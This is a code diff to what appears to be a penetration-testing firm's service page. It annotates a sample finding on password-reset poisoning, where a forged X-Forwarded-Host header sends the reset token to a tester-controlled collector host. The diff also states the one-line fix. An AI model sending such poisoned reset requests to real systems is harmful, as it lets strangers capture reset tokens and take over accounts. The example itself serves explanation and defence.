@@ -163,7 +163,7 @@ export const webPenetrationTesting: Service = {
     code: [
       'POST /account/forgot HTTP/1.1',
       'Host: app.kestrel.example',
-      'X-Forwarded-Host: {-collector.tester.example-}',
+      'X-Forwarded-Host: {-collector.tester.example-} {#1}',
       'Content-Type: application/x-www-form-urlencoded',
       '',
       'email=second.tester%40kestrel.example',
@@ -171,8 +171,9 @@ export const webPenetrationTesting: Service = {
       'HTTP/1.1 202 Accepted',
       '',
       '# mail in the inbox of our second account:',
-      'https://{-collector.tester.example-}/account/reset?token={+9b1f[redacted]+}',
+      'https://{-collector.tester.example-}/account/reset?token={+9b1f[redacted]+} {#2}',
     ],
+    notes: ['the sender chooses the host', 'and the link goes there, token included'],
     caption:
       'Sample finding. The reset link is built from a header that the sender controls, so the token travels to a stranger. The fix is one line: take the host from configuration. WSTG-INPV-17, CWE-640.',
   },
